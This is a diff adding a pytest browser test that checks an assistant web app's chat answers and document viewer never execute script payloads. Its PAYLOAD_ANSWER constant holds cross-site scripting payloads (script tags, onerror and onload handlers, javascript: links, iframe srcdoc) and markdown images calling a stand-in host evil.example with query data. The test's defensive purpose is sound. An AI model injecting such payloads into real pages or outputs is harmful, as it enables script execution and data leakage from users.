@@ -1,0 +1,176 @@
+"""Script payloads in documents and answers never run in a real browser.
+
+A document full of payloads (``<script>``, ``onerror``, ``javascript:`` links,
+SVG ``onload``, iframes) is ingested; the fake model answers with the same
+payloads plus foreign images and links. The test asks a question whose answer
+and sources carry them, opens every source link the chat offers and the
+viewer pages of the hostile documents, and checks: no dialog opened, the
+``window.__pwned`` marker every payload sets stays undefined, and no request
+left for any host but the app's own.
+
+Run: ``python -m pytest tests/test_hardening_browser.py -m browser``. Needs
+``/usr/bin/chromium``; skipped without it.
+"""
+
+from __future__ import annotations
+
+import shutil
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+
+from assistant.config import LLMSettings, Settings, StoreSettings, UISettings
+from assistant.indexing import ingest
+from assistant.webapp import build_app
+from tests.conftest import FakeEmbedder, free_port
+from tests.openai_server import FakeOpenAIServer, Reply
+
+CHROMIUM = Path("/usr/bin/chromium")
+HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
+QUESTION = "When must receipts for expense claims be submitted?"
+PAYLOAD_ANSWER = (
+    "Receipts for expense claims must be submitted within thirty days [1]. "
+    "<script>window.__pwned = 11; alert(11)</script> "
+    '<img src=x onerror="window.__pwned = 12; alert(12)"> '
+    "[click](javascript:window.__pwned=13;alert(13)) "
+    "[click2](javascript&#58;window.__pwned=14) "
+    '<svg onload="window.__pwned = 15"></svg> '
+    '<iframe srcdoc="<script>parent.__pwned=16</script>"></iframe> '
+    "![x](http://evil.example/?q=DATA) ![a [b] c](//evil.example/?q=NESTED) "
+    "[portal](http://evil.example/portal) [r]\n\n[r]: //evil.example/ref"
+)
+LAUNCH_ARGS = [
+    "--no-sandbox",
+    "--headless=new",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+]
+
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(
+        not CHROMIUM.exists(), reason="/usr/bin/chromium is missing (apt-get install chromium)"
+    ),
+]
+
+
+@dataclass
+class Served:
+    url: str
+    server: FakeOpenAIServer
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    pytest.importorskip("playwright.sync_api")
+    base = tmp_path_factory.mktemp("browser-hostile")
+    docs = base / "docs"
+    docs.mkdir()
+    for name in ("script-payloads.md", "script-payloads.html", "ok.md"):
+        shutil.copy(HOSTILE / name, docs / name)
+    reply = Reply(text=PAYLOAD_ANSWER, chunk_chars=9, delay=0.01)
+    with FakeOpenAIServer(default=reply) as server:
+        settings = Settings(
+            store=StoreSettings(path=base / "index"),
+            llm=LLMSettings(base_url=server.base_url, api_key="test", timeout=10),
+            ui=UISettings(port=free_port()),
+        )
+        report = ingest([docs], settings=settings, embedder=FakeEmbedder())
+        assert not report.problems, report.problems
+        app = build_app(settings, doc_roots=[docs], embedder=FakeEmbedder())
+        url = app.launch()
+        try:
+            yield Served(url.rstrip("/"), server)
+        finally:
+            app.demo.close()
+
+
+@dataclass
+class Watched:
+    page: Any
+    dialogs: list[str] = field(default_factory=list)
+    requests: list[str] = field(default_factory=list)
+
+
+@pytest.fixture
+def watched(served: Served) -> Iterator[Watched]:
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=LAUNCH_ARGS)
+        try:
+            context = browser.new_context()
+            page = context.new_page()
+            page.set_default_timeout(20_000)
+            result = Watched(page)
+
+            def on_dialog(dialog: Any) -> None:
+                result.dialogs.append(dialog.message)
+                dialog.dismiss()
+
+            # Context-wide, so requests from iframes and popups count too.
+            context.on("request", lambda request: result.requests.append(request.url))
+            page.on("dialog", on_dialog)
+            yield result
+        finally:
+            browser.close()
+
+
+def _pwned(page: Any) -> object:
+    return page.evaluate("() => window.__pwned")
+
+
+def _foreign(requests: list[str], own_url: str) -> list[str]:
+    own = urlsplit(own_url).netloc
+    return [
+        url
+        for url in requests
+        if urlsplit(url).scheme not in ("data", "blob", "about") and urlsplit(url).netloc != own
+    ]
+
+
+def test_payloads_in_answer_sources_and_viewer_never_run(served: Served, watched: Watched) -> None:
+    page = watched.page
+    page.goto(served.url + "/", wait_until="load")
+    box = page.locator("textarea").first
+    box.fill(QUESTION)
+    box.press("Enter")
+
+    page.locator(".bot").first.get_by_text("thirty days", exact=False).wait_for()
+    page.locator(".message-wrap").get_by_text("Sources", exact=True).first.wait_for()
+    page.locator(".message-wrap").get_by_text("Trace", exact=True).first.wait_for()
+    page.get_by_role("link", name="open section").first.wait_for()
+    page.wait_for_timeout(500)
+    chat_text = page.locator(".message-wrap").inner_text()
+    assert "within thirty days" in chat_text
+    assert "Receipt" in chat_text, "the hostile document was not among the sources"
+    assert page.locator(".message-wrap img[src*='evil'], .message-wrap iframe").count() == 0
+    hrefs = page.locator(".message-wrap a").evaluate_all("els => els.map(e => e.href)")
+    assert not [h for h in hrefs if h.startswith("javascript:") or "evil.example" in h], hrefs
+    assert _pwned(page) is None
+
+    viewer_links = [h for h in hrefs if "/doc/" in h]
+    assert viewer_links, "the answer offered no link into the viewer"
+    own_pages = [served.url + "/doc/script-payloads.md", served.url + "/doc/script-payloads.html"]
+    for link in sorted({*viewer_links, *own_pages}):
+        page.goto("about:blank")
+        response = page.goto(link, wait_until="load")
+        assert response is not None
+        assert response.status == 200, link
+        page.wait_for_timeout(300)
+        assert "thirty days" in page.inner_text("body")
+        assert _pwned(page) is None, link
+        for anchor in page.locator("a").all():
+            href = anchor.get_attribute("href") or ""
+            assert not href.lower().startswith("javascript:"), href
+
+    assert watched.dialogs == []
+    foreign = _foreign(watched.requests, served.url)
+    assert foreign == [], f"requests left for other hosts: {foreign}"
